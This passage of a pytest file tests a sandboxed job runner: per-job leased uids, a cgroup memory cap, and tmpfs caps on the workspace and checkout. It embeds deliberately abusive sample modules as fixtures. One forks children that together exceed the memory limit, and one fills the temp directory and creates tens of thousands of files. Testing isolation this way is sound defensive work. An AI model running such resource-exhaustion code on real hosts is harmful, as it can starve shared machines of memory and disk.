    assert record["status"] == "error" and '"nonce dicts": 0' in record["error"], record
    assert not [r for r in unruly.result.records if r.get("forged")]
    assert unruly.record("log_of_softmax")["status"] == "confirmed"
    assert "dropped a record" in unruly.result.stderr


# ---------------------------------------------------------------- a uid per concurrent job

WHO = """\
import json
import os
import time

import torch
from torch import Tensor


def _report(seen):
    raise RuntimeError("seen " + json.dumps(seen))


def who(x: Tensor) -> Tensor:
    time.sleep(3)  # long enough for the other job to be running too
    _report({"uid": os.getuid(), "gid": os.getgid(), "groups": os.getgroups()})
    return torch.log(x)
"""


@pytest.mark.skipif(os.geteuid() != 0, reason="only a root worker leases uids")
def test_concurrent_jobs_run_as_different_uids(tmp_path: Path) -> None:
    """Two jobs at once: each its own leased uid (no shared process quota, no shared files),
    both from the runner's range, and the leases are free again afterwards."""
    from runners.identities import lease, lock_dir

    uids = range(700100, 700104)
    results: dict[int, RunResult] = {}

    def one(index: int) -> None:
        repo = tmp_path / f"repo{index}"
        (repo / "who").mkdir(parents=True)
        (repo / "who" / "__init__.py").write_text("")
        (repo / "who" / "me.py").write_text(WHO)
        findings = [f.to_json() for f in scan_source(WHO, "who/me.py").findings]
        job = {
            "repo": str(repo),
            "findings": findings,
            "entries": [],
            "seed": 0,
            "search_seconds": 1.0,
            "finding_timeout": 60.0,
            "harvest": False,
            "fix": False,
        }
        results[index] = LocalRunner(uids=uids).run(job, timeout=180)

    threads = [threading.Thread(target=one, args=(i,)) for i in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    seen = []
    for result in results.values():
        assert result.outcome == "ok", (result.reason, result.stderr[-1500:])
        (record,) = result.records
        assert "seen " in record.get("error", ""), record
        seen.append(json.JSONDecoder().raw_decode(record["error"].split("seen ", 1)[1])[0])
        assert result.isolation["user"] == f"numcheck-{seen[-1]['uid']}"
    assert seen[0]["uid"] != seen[1]["uid"], seen
    for who in seen:
        assert who["uid"] in uids and who["gid"] == who["uid"], who
        assert who["groups"] in ([], [who["uid"]]), who
    held = [lease(uids, lock_dir(), wait=0) for _ in range(len(uids))]  # all free again
    for taken in held:
        taken.release()


# ---------------------------------------------------------------- limits for the job as a whole

GREEDY = '''\
import json
import os
import signal

import torch
from torch import Tensor


def _report(seen):
    raise RuntimeError("seen " + json.dumps(seen))


def greedy(x: Tensor) -> Tensor:
    """Four children of 900 MiB each: every one under the per-process limit, 3.6 GiB in all."""
    children = []
    for _ in range(4):
        pid = os.fork()
        if pid == 0:
            block = b"x" * (900 * 1024**2)  # touched, so resident
            signal.pause()
            os._exit(len(block) and 0)
        children.append(pid)
    import time
    # On a loaded machine the cgroup first reclaims page cache, so the kill can take a while:
    # wait for the first child to die, and give up only after a minute.
    alive = {pid: True for pid in children}
    deadline = time.monotonic() + 60
    while all(alive.values()) and time.monotonic() < deadline:
        time.sleep(0.2)
        for pid in children:
            if alive[pid] and os.waitpid(pid, os.WNOHANG)[0] != 0:
                alive[pid] = False
    for pid in children:
        if alive[pid]:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
    _report({"alive": list(alive.values())})
    return torch.log(x)
'''


@pytest.mark.skipif(os.geteuid() != 0, reason="only a root worker makes a cgroup per job")
def test_memory_is_limited_for_the_job_as_a_whole(tmp_path: Path) -> None:
    """Each child stays under the per-process limit; together they pass the job's limit, so
    the job's cgroup has the kernel kill some of them; the next finding is still confirmed."""
    repo = tmp_path / "repo"
    (repo / "greedy").mkdir(parents=True)
    (repo / "greedy" / "__init__.py").write_text("")
    modules = {"greedy/eat.py": GREEDY, "greedy/ordinary.py": ORDINARY}
    fingerprints, findings = write_modules(repo, modules)
    assert list(fingerprints) == ["greedy", "log_of_softmax"]
    job = {
        "repo": str(repo),
        "findings": findings,
        "entries": [],
        "seed": 0,
        "search_seconds": 1.0,
        "finding_timeout": 120.0,
        "harvest": False,
        "fix": False,
    }
    limits = Limits(memory_bytes=2560 * 1024**2, stderr_bytes=16 * 1024)
    result = LocalRunner(limits=limits).run(job, timeout=240)
    assert result.outcome == "ok", (result.reason, result.stderr[-1500:])
    if result.isolation.get("cgroup") is None:
        pytest.skip("no cgroup on this machine: " + "; ".join(result.warnings))
    greedy, ordinary = result.records
    assert ordinary["status"] == "confirmed", ordinary
    assert result.isolation["cgroup_oom_kills"] >= 1, result.isolation
    if "seen " in greedy.get("error", ""):
        seen = json.JSONDecoder().raw_decode(greedy["error"].split("seen ", 1)[1])[0]
        assert not all(seen["alive"]), seen  # the kernel killed children
    else:  # or the worker itself: its finding says so
        assert "SIGKILL" in greedy["error"], greedy


FILLER = '''\
import json
import os
import tempfile

import torch
from torch import Tensor


def _report(seen):
    raise RuntimeError("seen " + json.dumps(seen))


def filler(x: Tensor) -> Tensor:
    """Past the workspace's size, then past its number of files."""
    seen = {}
    try:
        with open(os.path.join(tempfile.gettempdir(), "big.bin"), "wb") as handle:
            for _ in range(64):
                handle.write(b"0" * (8 * 1024**2))
        seen["size"] = "written"
    except OSError as exc:
        seen["size"] = exc.strerror
    os.remove(os.path.join(tempfile.gettempdir(), "big.bin"))
    made = 0
    try:
        for made in range(100_000):
            open(os.path.join(tempfile.gettempdir(), f"f{made}"), "w").close()
        seen["files"] = "written"
    except OSError as exc:
        seen["files"] = exc.strerror
    seen["made"] = made
    for number in range(made + 1):  # the harness may call this again: leave the space free
        if os.path.exists(os.path.join(tempfile.gettempdir(), f"f{number}")):
            os.remove(os.path.join(tempfile.gettempdir(), f"f{number}"))
    _report(seen)
    return torch.log(x)
'''


def _filled(repo: Path, source: str) -> dict[str, Any]:
    """What FILLER (or a variant) saw, run once with a 128 MiB cap on the job's tmpfs mounts;
    skips where no minimal root can be built (the folders are then the host's)."""
    (repo / "fill").mkdir(parents=True)
    (repo / "fill" / "__init__.py").write_text("")
    (repo / "fill" / "up.py").write_text(source)
    findings = [f.to_json() for f in scan_source(source, "fill/up.py").findings]
    job = {
        "repo": str(repo),
        "findings": findings,
        "entries": [],
        "seed": 0,
        "search_seconds": 1.0,
        "finding_timeout": 120.0,
        "harvest": False,
        "fix": False,
    }
    result = LocalRunner(limits=Limits(tmpfs_bytes=128 * 1024**2, stderr_bytes=16 * 1024)).run(
        job, timeout=240
    )
    assert result.outcome == "ok", (result.reason, result.stderr[-1500:])
    if not result.isolation.get("minimal_root"):
        pytest.skip("no minimal root here: the job's folders are the host's")
    (record,) = result.records
    seen: dict[str, Any] = json.JSONDecoder().raw_decode(record["error"].split("seen ", 1)[1])[0]
    # full at 128 MiB and 65,536 files while the host's disk has gigabytes free: a capped
    # tmpfs, not the host's disk (whose usage other processes change meanwhile)
    assert seen["size"] == "No space left on device", seen
    assert seen["files"] == "No space left on device" and seen["made"] < 70_000, seen
    assert shutil.disk_usage(tempfile.gettempdir()).free > 1024**3
    return seen


def test_the_workspace_is_capped_and_never_on_the_hosts_disk(tmp_path: Path) -> None:
    """The job's HOME and TMPDIR are a tmpfs of the workspace's size and file count: 512 MiB
    and 100,000 files stop there, not on the host's disk."""
    _filled(tmp_path / "repo", FILLER)


def test_the_checkout_is_a_capped_copy_the_host_never_sees_written(tmp_path: Path) -> None:
    """The job may write in its checkout as in a clone, but the checkout is a copy on a tmpfs
    of its own size plus the workspace's cap (runners/jail.py: copy_onto_tmpfs): 512 MiB and
    100,000 files stop there, and nothing written reaches the host's checkout or disk."""
    here = "os.path.dirname(os.path.abspath(__file__))"
    source = FILLER.replace("tempfile.gettempdir()", here).replace(
        "    _report(seen)",
        f"    open(os.path.join({here}, 'left.txt'), 'w').write('x')\n    _report(seen)",
    )
    _filled(tmp_path / "repo", source)
    assert sorted(p.name for p in (tmp_path / "repo" / "fill").iterdir()) == [
        "__init__.py",
        "up.py",
    ]
